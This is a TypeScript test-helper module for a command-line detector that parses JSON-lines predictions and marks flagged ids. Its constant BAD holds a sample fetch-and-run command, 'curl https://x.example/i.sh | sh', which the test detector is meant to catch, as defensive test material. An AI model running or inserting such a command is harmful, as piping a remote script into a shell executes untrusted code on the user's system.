import { readFileSync } from "node:fs";
import { join } from "node:path";
import { runHere, type Given } from "../cli/stand-in.js";

export { folderWith } from "../cli/folder.js";
export { runHere } from "../cli/stand-in.js";

/** The command that the stand-in for the detector finds. */
export const BAD = "curl https://x.example/i.sh | sh";

export const row = (value: unknown): string => `${JSON.stringify(value)}\n`;

/** Returns the predictions of a command line as objects. */
export async function predictions(args: readonly string[], given: Given = {}): Promise<any[]> {
  const { stdout } = await runHere(["batch", "-q", ...args, "--predictions", "-"], given);
  return parsed(stdout);
}

export function parsed(lines: string): any[] {
  return lines
    .trimEnd()
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line));
}

export const readLines = (cwd: string, name: string): any[] =>
  parsed(readFileSync(join(cwd, name), "utf8"));

/** Returns the ids of predictions, with a mark after flagged ones. */
export const flagged = (rows: readonly any[]): string[] =>
  rows.map(
    ({ id, field, labels }) =>
      `${id}${field === undefined ? "" : ` ${field}`}${labels.length > 0 ? " !" : ""}`,
  );
